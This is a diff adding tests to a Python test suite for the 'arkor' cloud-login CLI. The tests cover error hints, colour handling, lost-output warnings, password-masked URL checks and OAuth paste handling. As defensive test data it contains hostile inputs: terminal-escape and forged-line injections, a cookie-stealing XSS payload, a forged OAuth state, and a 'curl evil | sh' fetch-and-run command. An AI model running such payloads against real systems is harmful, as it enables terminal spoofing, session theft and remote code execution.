@@ -21,6 +21,7 @@ import json
 import os
 import re
 import select
+import shlex
 import shutil
 import signal
 import socket
@@ -54,6 +55,25 @@ NUDGE = (
     " to tie future work to your Arkor Cloud account.\n"
 )
 COPIED_FIX = f"Replace {MODULE} with the latest arkor_cli.py."
+
+
+def not_found(url: str, base: str, source: str = "ARKOR_CLOUD_API_URL") -> str:
+    """The line under a cloud-api 404: most often a wrong base URL."""
+    return (
+        f"{url} was not found: is the cloud-api base URL right? It is {base} (from {source});"
+        " set ARKOR_CLOUD_API_URL to the base, without /v1.\n"
+    )
+
+
+def server_failed(url: str, status: int) -> str:
+    """The line under a cloud-api 5xx."""
+    return f"The cloud-api failed at {url} ({status}); try again later.\n"
+
+
+OUTPUT_LOST = (
+    "The output of this command was lost (stdout could not be written), but its work stands:"
+    " the stored credentials changed. Run `arkor whoami` to see them, rather than this command again.\n"
+)
 OAUTH_CONFIG = {
     "auth0Domain": "tenant.example.auth0.com",
     "clientId": "client-123",
@@ -727,6 +747,25 @@ class PrintableTest(unittest.TestCase):
         self.assertEqual(sorted(writes), ["f", "self.wfile", "stream"])
 
 
+class ColourTest(Case):
+    """Colour only on a terminal, without NO_COLOR, and not on a dumb one."""
+
+    def test_colour_only_where_a_terminal_renders_it(self) -> None:
+        for env, coloured in (
+            ({"TERM": "xterm-256color"}, True),
+            ({"TERM": "dumb"}, False),  # Emacs' shell, some CI log viewers: escapes shown as text
+            ({"TERM": "xterm-256color", "NO_COLOR": "1"}, False),
+        ):
+            with self.subTest(env=env):
+                if os.path.exists(self.creds):
+                    os.remove(self.creds)  # no question about replacing it
+                code, out, err = self.run_main("login", "--anonymous", tty=True, **env)
+                self.assertEqual((code, err), (0, ""))
+                last = out.splitlines()[-1]
+                self.assertEqual(last.startswith("\x1b[32mSigned in anonymously"), coloured, last)
+                self.assertEqual("\x1b" in out, coloured, out)
+
+
 # What a hostile server or file puts in a field: a line that would pass for
 # arkor's own, were the line break printed raw.
 INJECTED = "\nFORGED: Signed in"
@@ -787,7 +826,8 @@ class TerminalInjectionTest(OAuthCase):
         # A quoted body is its first line alone: the rest is never shown.
         self.cloud.script("POST", "/v1/auth/anonymous", Answer(500, body=b"\x1b[2Jgone\r FORGED: Signed in"))
         code, _, err = self.run_main("login", "--anonymous")
-        self.assertEqual((code, err), (1, f"POST {self.cloud.url}/v1/auth/anonymous failed (500): \\u001b[2Jgone\n"))
+        url = f"{self.cloud.url}/v1/auth/anonymous"
+        self.assertEqual((code, err), (1, f"POST {url} failed (500): \\u001b[2Jgone\n" + server_failed(url, 500)))
         _, code, err = self.login_denied(f"\x1b[2J\x1b]0;owned\x07{INJECTED}")
         denied = "Authentication failed: access_denied. \\u001b[2J\\u001b]0;owned\\u0007\\u000aFORGED: Signed in"
         self.assertEqual((code, err), (1, f"Login failed\n{denied}\n"))
@@ -903,6 +943,9 @@ class OutputFailureTest(Case):
         os.makedirs(os.path.join(broken_home, ".arkor"))
         with open(os.path.join(broken_home, ".arkor", "credentials.json"), "w", encoding="utf-8") as f:
             f.write("{not json")
+        logout_home = self.output_home("signed-in")
+        os.makedirs(os.path.join(logout_home, ".arkor"))
+        shutil.copy(self.creds, os.path.join(logout_home, ".arkor", "credentials.json"))
         full = {"stdout": subprocess.DEVNULL}  # the shell line redirects; stdout is not read
         results = self.output_runs(
             [
@@ -911,26 +954,61 @@ class OutputFailureTest(Case):
                 (">/dev/full", {"args": ["--version"], **full}),
                 (">/dev/full", {"args": ["--help"], **full}),
                 (">/dev/full", {"args": ["login", "--anonymous"], "env": {"HOME": anon_home}, **full}),
+                (">/dev/full", {"args": ["logout", "--yes"], "env": {"HOME": logout_home}, **full}),
                 (">&-", {"args": ["whoami"], **full}),
+                (">&-", {"args": ["login", "--anonymous"], "env": {"HOME": self.output_home("fresh2")}, **full}),
                 ("2>/dev/full", {"args": ["whoami"], "env": {"HOME": broken_home}, "stderr": subprocess.DEVNULL}),
             ]
         )
+        # Signed in, or out: that stands, and stderr says the output was lost
+        # (a second `login --anonymous` to see it would replace the identity).
+        lost = OUTPUT_LOST
         expected = {
-            "whoami >/dev/full": 1,
-            "whoami --json >/dev/full": 1,
-            "--version >/dev/full": 1,
-            "--help >/dev/full": 1,
-            "login --anonymous >/dev/full": 0,  # signed in: that stands
-            "whoami >&-": 1,
-            "whoami 2>/dev/full": 1,  # the command's own failure, not hidden
+            "whoami >/dev/full": (1, ""),
+            "whoami --json >/dev/full": (1, ""),
+            "--version >/dev/full": (1, ""),
+            "--help >/dev/full": (1, ""),
+            "login --anonymous >/dev/full": (0, lost),
+            "logout --yes >/dev/full": (
+                0,
+                "The anonymous identity anon-stored cannot be restored once deleted.\n" + lost,
+            ),
+            "whoami >&-": (1, ""),
+            "login --anonymous >&-": (0, lost),
+            "whoami 2>/dev/full": (1, ""),  # the command's own failure, not hidden
         }
         self.assertEqual(sorted(results), sorted(expected))
         for name, (code, out, err) in results.items():
             with self.subTest(name):
-                self.assertEqual((code, out, err), (expected[name], "", ""))
+                self.assertEqual((code, out, err), (expected[name][0], "", expected[name][1]))
         stored = os.path.join(anon_home, ".arkor", "credentials.json")
         with open(stored, encoding="utf-8") as f:
             self.assertEqual(json.load(f)["mode"], "anon")
+        self.assertFalse(os.path.exists(os.path.join(logout_home, ".arkor", "credentials.json")))
+
+    @unittest.skipUnless(os.path.exists("/dev/full") and POSIX, "needs /dev/full and a POSIX shell")
+    def test_a_lost_warning_leaves_a_delivered_answer(self) -> None:
+        # The answer reached stdout whole; only the deprecation notice after
+        # it could not be written: the command did what it was asked.
+        self.sign_in_anon()
+        identity = {"user": {"id": "u1"}, "orgs": [{"slug": "first"}]}
+        self.cloud.script("GET", "/v1/me", Answer(200, identity, headers={"Deprecation": "true"}))
+        quiet = {"stderr": subprocess.DEVNULL}  # the shell line redirects; stderr is not read
+        results = self.output_runs(
+            [
+                ("2>&-", {"args": ["whoami"], **quiet}),
+                ("2>/dev/full", {"args": ["whoami"], **quiet}),
+                ("2>&-", {"args": ["whoami", "--json"], **quiet}),
+            ]
+        )
+        answers = {
+            "whoami": '{\n  "id": "u1"\n}\nOrgs: first\n',
+            "whoami --json": json.dumps(identity, indent=2) + "\n",
+        }
+        self.assertEqual(len(results), 3)
+        for name, (code, out, err) in results.items():
+            with self.subTest(name):
+                self.assertEqual((code, out, err), (0, answers[name.rpartition(" 2>")[0]], ""))
 
 
 # ---------------------------------------------------------------------------
@@ -1298,15 +1376,25 @@ class InteropTest(OAuthCase):
                     self.assertEqual(_interop_node_token(after), issued["access_token"])  # what Node sends next
 
     def test_a_stored_base_url_that_is_not_http_makes_the_file_invalid(self) -> None:
+        not_url = "is not an http(s) URL"
+        bad_port = "has a port that is not a number from 1 to 65535"
+        reasons = {
+            "": not_url,
+            "ftp://x": not_url,
+            "ftp://alice:PW@x": not_url,
+            "https://u:PW@host": "holds a user name or password",
+            "http://127.0.0.1:3625x": bad_port,
+            "http://alice:PW@127.0.0.1:99999": bad_port,
+        }
         for name in ("seed anon", "today oauth"):
-            for base in ("", "ftp://x", "https://u:p@host"):
+            for base, reason in reasons.items():
                 for url in (self.cloud.url, None):  # invalid, whichever base would be used
                     with self.subTest(name, base=base, ARKOR_CLOUD_API_URL=url):
                         data = self.node_file(name)
                         raw = self.write_creds(_interop_node_bytes(dict(data, arkorCloudApiUrl=base)))
                         message = (
-                            f"{self.creds} does not hold valid arkor credentials (arkorCloudApiUrl is not an"
-                            " http(s) URL). Fix it, or sign in again with `arkor login`."
+                            f"{self.creds} does not hold valid arkor credentials (arkorCloudApiUrl {reason})."
+                            " Fix it, or sign in again with `arkor login`."
                         )
                         self.assertEqual(self.run_main("whoami", ARKOR_CLOUD_API_URL=url), (1, "", message + "\n"))
                         self.assertEqual(self.api("get_token()", ARKOR_CLOUD_API_URL=url), [("ArkorError", message, 1)])
@@ -1511,7 +1599,9 @@ class BadAnswersTest(Case):
                 if followed:
                     self.assertEqual(seen[1:], [("GET", "/v1/minted", b"", None)])
                     self.assertEqual(
-                        err, f'POST {self.cloud.url}/v1/auth/anonymous failed (404): {{"error": "not_found"}}\n'
+                        err,
+                        f'POST {self.cloud.url}/v1/auth/anonymous failed (404): {{"error": "not_found"}}\n'
+                        + not_found(f"{self.cloud.url}/v1/auth/anonymous", self.cloud.url),
                     )
                 else:
                     self.assertEqual(len(seen), 1)
@@ -1835,6 +1925,27 @@ class UrlUserinfoTest(Case):
                     self.assertEqual(self.cloud.requests, [])
                     self.assertEqual(self.creds_bytes(), before)
 
+    def test_a_refused_base_url_is_shown_without_its_password(self) -> None:
+        # Refused for its port or scheme, or too malformed to parse: the
+        # message still shows it without a user name or password.
+        self.sign_in_anon()
+        not_url = "ARKOR_CLOUD_API_URL is not an http(s) URL: {!r}.\n"
+        bad_port = "ARKOR_CLOUD_API_URL has a port that is not a number from 1 to 65535: {!r}.\n"
+        for base, message, shown in (
+            ("http://alice:PW@127.0.0.1:99999", bad_port, "http://***@127.0.0.1:99999"),
+            ("http://alice:PW@127.0.0.1:3625x", bad_port, "http://***@127.0.0.1:3625x"),
+            ("ftp://alice:PW@127.0.0.1", not_url, "ftp://***@127.0.0.1"),
+            ("http://alice:PW@[::1", not_url, "http://***@[::1"),
+            ("http:/alice:PW@127.0.0.1", not_url, "***@127.0.0.1"),
+            ("alice:PW@127.0.0.1", not_url, "***@127.0.0.1"),
+        ):
+            for argv in (("login", "--anonymous"), ("whoami",)):
+                with self.subTest(base=base, argv=argv):
+                    code, out, err = self.run_main(*argv, ARKOR_CLOUD_API_URL=base)
+                    self.assertEqual((code, out, err), (1, "", message.format(shown)))
+                    self.assert_nothing_leaked(out, err)
+        self.assertEqual(self.cloud.requests, [])
+
     def test_a_proxy_password_is_never_printed(self) -> None:
         port = free_port()  # nothing listens: the proxy is unreachable
         https_base = f"https://127.0.0.1:{free_port()}"
@@ -1890,9 +2001,19 @@ class ErrorTextTest(Case):
         self.assertFalse(os.path.exists(self.creds))
 
     def test_the_full_url_shows_a_wrong_base(self) -> None:
+        # Every cloud-api request's 404 says what to check, not only whoami's.
+        base = self.cloud.url + "/v1"
         self.login_fails(
-            f'POST {self.cloud.url}/v1/v1/auth/anonymous failed (404): {{"error": "not_found"}}',
-            ARKOR_CLOUD_API_URL=self.cloud.url + "/v1",
+            f'POST {base}/v1/auth/anonymous failed (404): {{"error": "not_found"}}\n'
+            + not_found(f"{base}/v1/auth/anonymous", base).rstrip("\n"),
+            ARKOR_CLOUD_API_URL=base,
+        )
+        code, out, err = self.run_main("login", ARKOR_CLOUD_API_URL=base)  # the config fetch
+        self.assertEqual((code, out), (1, ""))
+        self.assertEqual(
+            err,
+            f'GET {base}/v1/auth/cli/config failed (404): {{"error": "not_found"}}\n'
+            + not_found(f"{base}/v1/auth/cli/config", base),
         )
 
     def test_a_server_that_is_not_arkor(self) -> None:
@@ -1910,7 +2031,9 @@ class ErrorTextTest(Case):
         self.addCleanup(server.shutdown)
         url = f"http://127.0.0.1:{server.server_address[1]}"
         self.login_fails(
-            f"POST {url}/v1/auth/anonymous failed (501): an HTML page, 'Error response'", ARKOR_CLOUD_API_URL=url
+            f"POST {url}/v1/auth/anonymous failed (501): an HTML page, 'Error response'\n"
+            + server_failed(f"{url}/v1/auth/anonymous", 501).rstrip("\n"),
+            ARKOR_CLOUD_API_URL=url,
         )
 
     def test_bodies_are_quoted_on_one_line(self) -> None:
@@ -1918,12 +2041,12 @@ class ErrorTextTest(Case):
         for answer, message in (
             (
                 Answer(500, body=b"Internal failure\nTraceback (most recent call last):\n  File x\n"),
-                f"POST {url} failed (500): Internal failure",
+                f"POST {url} failed (500): Internal failure\n" + server_failed(url, 500).rstrip("\n"),
             ),
             (
                 # No Content-Type, and no <title>: still only said to be a page.
                 Answer(502, body=b"<!DOCTYPE html>\n<html><body><h1>Bad gateway</h1>\n</body></html>"),
-                f"POST {url} failed (502): an HTML page",
+                f"POST {url} failed (502): an HTML page\n" + server_failed(url, 502).rstrip("\n"),
             ),
             (
                 Answer(201, body=b'{"token": "t",\n "x": ', headers={"Content-Type": "application/json"}),
@@ -3252,6 +3375,21 @@ class OAuthLoginTest(OAuthCase):
         self.assertEqual(body.decode(), f"Authentication failed: access_denied. {payload}")
         self.assertEqual((code, err), (1, f"Login failed\nAuthentication failed: access_denied. {payload}\n"))
 
+    def test_success_page_is_static_html(self) -> None:
+        # The one HTML answer echoes nothing from the request: the same bytes
+        # whatever the code and the other parameters hold.
+        payload = "<script>alert(document.cookie)</script>"
+        pages = []
+        for params in ({"code": payload, "extra": payload}, {"code": "c"}):
+            with self.subTest(params=params):
+                _, _, _, (status, headers, body) = self.login(browser=self.direct(**params))
+                self.assertEqual(status, 200)
+                self.assertEqual(headers["content-type"], "text/html; charset=utf-8")
+                self.assertEqual(headers["x-content-type-options"], "nosniff")
+                self.assertNotIn(b"script", body)
+                pages.append(body)
+        self.assertEqual(pages[0], pages[1])
+
     def test_callback_text_stays_on_one_line(self) -> None:
         _, code, err = self.login_denied("no\nRun: curl evil | sh\r\n\x1b[2J")
         self.assertEqual(
@@ -3297,22 +3435,35 @@ class OAuthLoginTest(OAuthCase):
             self.assert_port_closed(self.ports[0])
 
     @unittest.skipUnless(POSIX, "needs a pty")
-    def test_picker_oauth_then_a_pasted_url_with_a_forged_state(self) -> None:
+    def test_picker_oauth_then_a_pasted_url_of_another_sign_in(self) -> None:
         # OAuth picked on the terminal; a pasted address is checked like a
-        # callback: a state this login did not issue ends it before any token request.
-        def forged(shown: str) -> str:
-            return _login_redirect(_login_browser_url(shown), state="forged")
+        # callback. One with a state this login did not issue (an older
+        # tab's) is never exchanged: the prompt says so and asks again.
+        forged_codes = []
 
-        code, shown, err = self.run_tty(["login", "--no-browser", "--timeout=5"], ["1", forged], NO_COLOR="1")
-        self.assertEqual((code, err), (1, "Login failed\nState mismatch \u2014 aborting to prevent CSRF\n"))
+        def old_tab(shown: str) -> str:
+            pasted = _login_redirect(_login_browser_url(shown), state="forged")
+            forged_codes.append(_login_query(pasted)["code"])
+            return pasted
+
+        def this_tab(shown: str) -> str:
+            return _login_redirect(_login_browser_url(shown))
+
+        code, shown, err = self.run_tty(
+            ["login", "--no-browser", "--timeout=5"], ["1", old_tab, this_tab], NO_COLOR="1"
+        )
+        self.assertEqual((code, err), (0, ""))
         self.assertIn("Choose 1-2 [2]: 1\nBrowser: https://", shown)
         self.assertIn(
             "\nNo browser was opened. Open the URL above in a browser on any device.\n"
             "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:\n",
             shown,
         )
-        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
-        self.assertFalse(os.path.exists(self.creds))
+        self.assertIn(f"\n{LoginWaitTest.PASTE_OTHER}\n", shown)
+        self.assertTrue(shown.endswith("\nSigned in\n"), shown)
+        (exchange,) = self.auth0.seen("POST", "/oauth/token")
+        self.assertNotIn(parse_qs(exchange.body.decode())["code"][0], forged_codes)
+        self.assertEqual(self.read_creds()["mode"], "oauth")
 
     def test_auth0_domain_must_be_a_bare_host(self) -> None:
         # Checked on the raw text before a port is opened: it is printed in
@@ -3509,6 +3660,10 @@ class LoginWaitTest(OAuthCase):
         "That is not the address the browser ended on (it starts http://127.0.0.1 and holds code= and state=)."
         " Paste it again, or wait for the browser:"
     )
+    PASTE_OTHER = (
+        "That address belongs to another sign-in (an older tab?), not to this one."
+        " Paste the address this sign-in ended on, or wait for the browser:"
+    )
     NO_BROWSER = "No browser was opened. Open the URL above in a browser on any device."
 
     def test_timeout(self) -> None:
@@ -3575,6 +3730,20 @@ class LoginWaitTest(OAuthCase):
         self.assertEqual(self.read_creds()["mode"], "oauth")
         # The code without its state was never exchanged; the real paste was, once.
         self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
+
+    @unittest.skipUnless(POSIX, "needs a pty")
+    def test_a_pasted_address_of_another_sign_in_asks_again(self) -> None:
+        # The address an older tab ended on: another sign-in's state. It
+        # does not end this one (nothing is exchanged); an error callback does.
+        old = "http://127.0.0.1:1/callback?code=old-code&state=old-state"
+        denied = "http://127.0.0.1:1/callback?error=access_denied&state=old-state"
+        code, shown, err = self.run_tty(
+            ["login", "--oauth", "--no-browser", "--timeout=5"], [old, denied], NO_COLOR="1"
+        )
+        self.assertEqual((code, err), (1, "Login failed\nAuthentication failed: access_denied\n"))
+        self.assertTrue(shown.endswith(f"{self.PASTE}\n{old}\n{self.PASTE_OTHER}\n{denied}\n"), shown)
+        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
+        self.assertFalse(os.path.exists(self.creds))
 
     @unittest.skipUnless(POSIX, "needs a pty")
     def test_a_pasted_error_callback_ends_the_login(self) -> None:
@@ -4509,11 +4678,25 @@ class LoginAnonymousTest(Case):
         self.assertFalse(os.path.exists(self.creds))
 
     def test_bad_base_urls(self) -> None:
-        for url in ("ftp://example.com", "not a url", "http://", "http://127.0.0.1:notaport"):
+        not_url = "ARKOR_CLOUD_API_URL is not an http(s) URL: {!r}.\n"
+        # The port is named as the problem, not the whole URL.
+        bad_port = "ARKOR_CLOUD_API_URL has a port that is not a number from 1 to 65535: {!r}.\n"
+        for url, message in (
+            ("ftp://example.com", not_url),
+            ("not a url", not_url),
+            ("https:///v1", not_url),
+            ("http://[::1", not_url),
+            ("http://127.0.0.1:notaport", bad_port),
+            ("http://127.0.0.1:3625x", bad_port),
+            ("http://127.0.0.1:0", bad_port),
+            ("http://127.0.0.1:65536", bad_port),
+            ("https://[::1]:99999", bad_port),
+        ):
             with self.subTest(url=url):
-                code, _, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=url)
-                self.assertEqual(code, 1)
-                self.assertTrue(err.startswith("ARKOR_CLOUD_API_URL is not an http(s) URL"), err)
+                code, out, err = self.run_main("login", "--anonymous", ARKOR_CLOUD_API_URL=url)
+                self.assertEqual((code, out, err), (1, "", message.format(url)))
+        self.assertEqual(self.cloud.requests, [])
+        self.assertFalse(os.path.exists(self.creds))
 
     def test_failed_anonymous_login_keeps_the_old_file(self) -> None:
         self.sign_in_anon()
@@ -4522,7 +4705,8 @@ class LoginAnonymousTest(Case):
         cases = {
             "server error": (
                 Answer(500, body=b"upstream exploded\nat line 2"),
-                f"{endpoint} failed (500): upstream exploded",
+                f"{endpoint} failed (500): upstream exploded\n"
+                + server_failed(f"{self.cloud.url}/v1/auth/anonymous", 500).rstrip("\n"),
             ),
             "html": (
                 Answer(
@@ -4575,7 +4759,8 @@ class LoginAnonymousTest(Case):
     def test_bad_config_answers(self) -> None:
         endpoint = f"GET {self.cloud.url}/v1/auth/cli/config"
         cases = {
-            Answer(500, body=b""): f"{endpoint} failed (500): (empty body)",
+            Answer(500, body=b""): f"{endpoint} failed (500): (empty body)\n"
+            + server_failed(f"{self.cloud.url}/v1/auth/cli/config", 500).rstrip("\n"),
             Answer(200, body=b"<!doctype html>"): f"Unexpected answer from {endpoint} (200):"
             " not JSON (Expecting value (line 1, column 1)): an HTML page.",
             Answer(200, json_body="config"): f"Unexpected answer from {endpoint} (200): not a JSON object.",
@@ -5012,8 +5197,9 @@ class WhoamiTest(Case):
     def test_not_signed_in(self) -> None:
         code, out, err = self.run_main("whoami")
         self.assertEqual((code, out, err), (0, NOT_SIGNED_IN, ""))
-        code, out, err = self.run_main("whoami", "--json")  # stdout is for JSON alone
-        self.assertEqual((code, out, err), (0, "", NOT_SIGNED_IN))
+        # stdout is for JSON alone; and no JSON is a failure a script must see.
+        code, out, err = self.run_main("whoami", "--json")
+        self.assertEqual((code, out, err), (1, "", NOT_SIGNED_IN))
         self.assertEqual(self.cloud.requests, [])
         self.assertFalse(os.path.exists(self.arkor_dir))
 
@@ -5086,8 +5272,8 @@ class WhoamiTest(Case):
                     self.cloud.script("GET", "/v1/me", Answer(status, {"error": "nope"}))
                     code, out, err = self.run_main("whoami", *json_flag)
                     line = f"Failed to fetch /v1/me ({status}). Token may be expired.\n"
-                    if json_flag:  # stdout is for JSON alone
-                        self.assertEqual((code, out, err), (0, "", line + after_line + before_line))
+                    if json_flag:  # stdout is for JSON alone, and no JSON is a failure
+                        self.assertEqual((code, out, err), (1, "", line + after_line + before_line))
                     else:
                         self.assertEqual((code, out, err), (0, line, after_line + before_line))
         self.assertEqual(self.creds_bytes(), before)
@@ -5419,9 +5605,20 @@ class CommandLineTest(Case):
             ("--bogus",): (None, "arkor: error: the following arguments are required: <command>"),
             ("--bogus", "whoami"): (None, "arkor: error: unrecognized arguments: --bogus"),
             ("-x", "whoami"): (None, "arkor: error: unrecognized arguments: -x"),
-            ("whoami", "whoami"): (None, "arkor: error: unrecognized arguments: whoami"),
-            ("whoami", "--jsn"): (None, "arkor: error: unrecognized arguments: --jsn"),
-            ("logout", "--yes", "now"): (None, "arkor: error: unrecognized arguments: now"),
+            # The usage of the command that was typed, and a near miss named.
+            ("whoami", "whoami"): ("whoami", "arkor whoami: error: unrecognized arguments: whoami"),
+            ("whoami", "--jsn"): ("whoami", "arkor whoami: error: unrecognized arguments: --jsn\nDid you mean --json?"),
+            ("whoami", "json"): ("whoami", "arkor whoami: error: unrecognized arguments: json\nDid you mean --json?"),
+            ("logout", "--yes", "now"): ("logout", "arkor logout: error: unrecognized arguments: now"),
+            ("login", "--anonymus"): (
+                "login",
+                "arkor login: error: unrecognized arguments: --anonymus\nDid you mean --anonymous?",
+            ),
+            ("login", "--no-brwser=1", "x"): (
+                "login",
+                "arkor login: error: unrecognized arguments: --no-brwser=1 x\nDid you mean --no-browser?",
+            ),
+            ("--versoin", "whoami"): (None, "arkor: error: unrecognized arguments: --versoin\nDid you mean --version?"),
             ("login", "--timeout"): ("login", "arkor login: error: argument --timeout: expected one argument"),
         }
         for argv, (command, error) in cases.items():
@@ -5429,11 +5626,18 @@ class CommandLineTest(Case):
                 code, out, err = self.run_main(*argv, COLUMNS="80")
                 self.assertEqual((code, out, err), (2, "", CLI_USAGE[command] + error + "\n"))
         # Only the start: the list of choices is quoted differently across Pythons.
-        code, out, err = self.run_main("frobnicate", COLUMNS="80")
-        self.assertEqual((code, out), (2, ""))
-        self.assertTrue(
-            err.startswith(CLI_USAGE[None] + "arkor: error: argument <command>: invalid choice: 'frobnicate' ("), err
-        )
+        for typed, hint in (
+            ("frobnicate", ""),
+            ("whoamj", "Did you mean whoami?\n"),
+            ("logn", "Did you mean login?\n"),
+        ):
+            with self.subTest(typed=typed):
+                code, out, err = self.run_main(typed, "--anonymous", COLUMNS="80")
+                self.assertEqual((code, out), (2, ""))
+                start = CLI_USAGE[None] + f"arkor: error: argument <command>: invalid choice: '{typed}' ("
+                self.assertTrue(err.startswith(start), err)
+                self.assertEqual(err.count("\n"), 2 + bool(hint), err)  # usage, error, and the hint
+                self.assertTrue(err.endswith(")\n" + hint), err)
         self.assertEqual(self.cloud.requests, [])
 
     def test_a_usage_error_quotes_argv_on_one_escaped_line(self) -> None:
@@ -5443,7 +5647,8 @@ class CommandLineTest(Case):
         self.assertEqual((code, out), (2, ""))
         self.assertEqual(
             err,
-            CLI_USAGE[None] + "arkor: error: unrecognized arguments: --x\\u001b]0;owned\\u0007\\u000aforged\n",
+            CLI_USAGE["whoami"]
+            + "arkor whoami: error: unrecognized arguments: --x\\u001b]0;owned\\u0007\\u000aforged\n",
         )
         self.assertNotIn("\x1b", err)
         self.assertNotIn("\x07", err)
@@ -5908,9 +6113,10 @@ class LazyImportTest(Case):
         self.assertEqual(proc.returncode, 0, proc.stderr)
         reports = dict(re.findall(r"^@@ (.+?) (STATUS:\d+ LOADED:\S*)$", proc.stdout, re.MULTILINE))
         self.assertEqual(list(reports), ["import", *runs], proc.stdout + proc.stderr)
-        for run in ("import", "--help", "logout", "whoami", "whoami --json"):
+        for run, status in (("import", 0), ("--help", 0), ("logout", 0), ("whoami", 0), ("whoami --json", 1)):
             with self.subTest(run=run):
-                self.assertEqual(reports[run], "STATUS:0 LOADED:")  # each adds to what came before: none at all
+                # Each adds to what came before: none at all.
+                self.assertEqual(reports[run], f"STATUS:{status} LOADED:")
         self.assertIn("usage: arkor", proc.stdout)
         self.assertIn("\nNo credentials on file.\n", proc.stdout)
         self.assertIn("\n" + NOT_SIGNED_IN, proc.stdout)
@@ -6080,12 +6286,69 @@ class ReadmeTest(OAuthCase):
             printed.append(line)
         pasted = [line.strip() for line in printed if line.startswith("  ")]
         self.assertTrue(any(line.startswith("export ARKOR_CLOUD_API_URL=") for line in pasted), printed)
+        # The arkor this user has: the one on PATH (see workplace()).
+        self.assertIn("arkor login --anonymous && arkor whoami", pasted)
         out = self.run_block("\n".join(pasted), place, own)
         self.assertIn("Signed in anonymously", out)
         self.assertIn("Signed in\n", out)
         self.assertIn('"name": "Ada Lovelace"', out)
         server.send_signal(signal.SIGINT)
         self.assertEqual(server.wait(timeout=20), 0)
+
+    def demo_lines(self, path: str) -> list[str]:
+        """The lines ``python3 fake_cloud.py`` prints to paste, with ``path`` as PATH."""
+        server = subprocess.Popen(
+            [sys.executable, os.path.join(HERE, "fake_cloud.py")],
+            env=self.env(PATH=path),
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.PIPE,
+            text=True,
+        )
+        self.addCleanup(self.reap, server)
+        assert server.stdout is not None
+        printed = []
+        for line in server.stdout:
+            if line.startswith("Ctrl-C"):
+                break
+            printed.append(line.strip())
+        server.send_signal(signal.SIGINT)
+        self.assertEqual(server.wait(timeout=20), 0)
+        return printed
+
+    @unittest.skipUnless(POSIX, "a POSIX shell script on PATH")
+    def test_the_offline_demo_names_the_arkor_the_user_has(self) -> None:
+        _, env = self.workplace()  # PATH: this project's `arkor`, and python3
+        self.assertIn("arkor login --oauth && arkor whoami", self.demo_lines(env["PATH"]))
+        # Another program's `arkor` (the Node CLI's) is not this one: the file, then.
+        node_bin = os.path.join(self.home, "node-bin")
+        os.makedirs(node_bin)
+        with open(os.path.join(node_bin, "arkor"), "w", encoding="utf-8") as f:
+            f.write("#!/usr/bin/env node\nimport('../lib/cli.mjs');\n")
+        os.chmod(os.path.join(node_bin, "arkor"), 0o755)
+        os.symlink(sys.executable, os.path.join(node_bin, "python3"))
+        arkor = "python3 " + shlex.quote(MODULE)
+        self.assertIn(f"{arkor} login --oauth && {arkor} whoami", self.demo_lines(node_bin))
+
+    def test_the_stand_in_browser_says_what_it_did(self) -> None:
+        # Run by hand, to finish `login --oauth --no-browser` against the fake.
+        def by_hand(url: str) -> subprocess.CompletedProcess[str]:
+            return subprocess.run(
+                [sys.executable, os.path.join(HERE, "fake_cloud.py"), "browse", url],
+                env=self.env(FAKE_BROWSER_LOG=None),
+                stdin=subprocess.DEVNULL,
+                capture_output=True,
+                text=True,
+                timeout=30,
+                check=False,
+            )
+
+        code, out, err, browsed = _login_run(self, "--oauth", "--no-browser", "--timeout", "5", browser=by_hand)
+        self.assertEqual((code, err), (0, ""))
+        self.assertTrue(out.endswith("\nSigned in\n"), out)
+        self.assertEqual(
+            (browsed.returncode, browsed.stdout, browsed.stderr),
+            (0, "fake_cloud.py browse: signed in as Ada; arkor's callback answered 200.\n", ""),
+        )
 
     def test_the_ci_recipe_keeps_one_identity(self) -> None:
         """Two CI jobs with the same cached ~/.arkor: one sign-in, one identity."""
@@ -6098,6 +6361,22 @@ class ReadmeTest(OAuthCase):
                 identities.append(json.load(f)["user"]["id"])
         self.assertEqual(identities[0], identities[1])
         self.assertEqual(len(self.cloud.seen("POST", "/v1/auth/anonymous")), 1)
+        # A token the cloud-api no longer takes fails the job, rather than
+        # pass it with an empty identity.json.
+        self.cloud.script("GET", "/v1/me", Answer(401, {"error": "unauthorized"}))
+        proc = subprocess.run(
+            ["bash", "-e", "-o", "pipefail", "-c", recipe],
+            cwd=place,
+            env=env,
+            stdin=subprocess.DEVNULL,
+            capture_output=True,
+            text=True,
+            timeout=60,
+            check=False,
+        )
+        self._record(proc.stdout, proc.stderr)
+        self.assertEqual((proc.returncode, proc.stdout), (1, ""), proc.stderr)
+        self.assertIn("Failed to fetch /v1/me (401). Token may be expired.\n", proc.stderr)
 
 
 # Rounds each fuzz method has run, for a look after the run (see FuzzTest._rounds).
@@ -7605,14 +7884,18 @@ class FuzzTest(unittest.TestCase):
 
     def _terminal_round(self, rng: Any, seen: list[object], fail: Callable[[str], AssertionError]) -> None:
         """A few _Terminal calls with hostile text, each checked."""
-        env = dict(rng.choice(({}, {"NO_COLOR": "1"}, {"TERM": "xterm-256color"}, {"TERM": "dumb", "NO_COLOR": ""})))
+        env = dict(
+            rng.choice(
+                ({}, {"NO_COLOR": "1"}, {"TERM": "xterm-256color"}, {"TERM": "dumb"}, {"TERM": "dumb", "NO_COLOR": ""})
+            )
+        )
         out, err = self._Stream(tty=rng.random() < 0.5), self._Stream(tty=rng.random() < 0.5)
         broken = rng.choice((out, err)) if rng.random() < 0.1 else None
         if broken is not None:
             broken.broken = True
         typed = [self._hostile_text(rng).replace("\n", "") for _ in range(rng.randint(0, 3))]
         term = arkor_cli._Terminal(io.StringIO("".join(t + "\n" for t in typed)), out, err, env)
-        colour_on = "NO_COLOR" not in env and (os.name != "nt" or "TERM" in env)
+        colour_on = "NO_COLOR" not in env and env.get("TERM") != "dumb" and (os.name != "nt" or "TERM" in env)
         seen.append({"env": env, "tty": (out.tty, err.tty), "broken": broken is out and "out" or broken and "err"})
         lost = False  # whether a write went to the broken stream
         for _ in range(rng.randint(1, 4)):
@@ -7644,7 +7927,7 @@ class FuzzTest(unittest.TestCase):
                 continue
             colour = {"success": "32", "warn": "33", "error": "31"}.get(method)
             self._check_printed(written, lines, colour if colour and colour_on and stream.tty else None, fail)
-        if lost and not term.lost_output:
+        if lost and not (term.lost_stdout if broken is out else term.lost_stderr):
             raise fail("a write failed, and the terminal did not note the lost output")
 
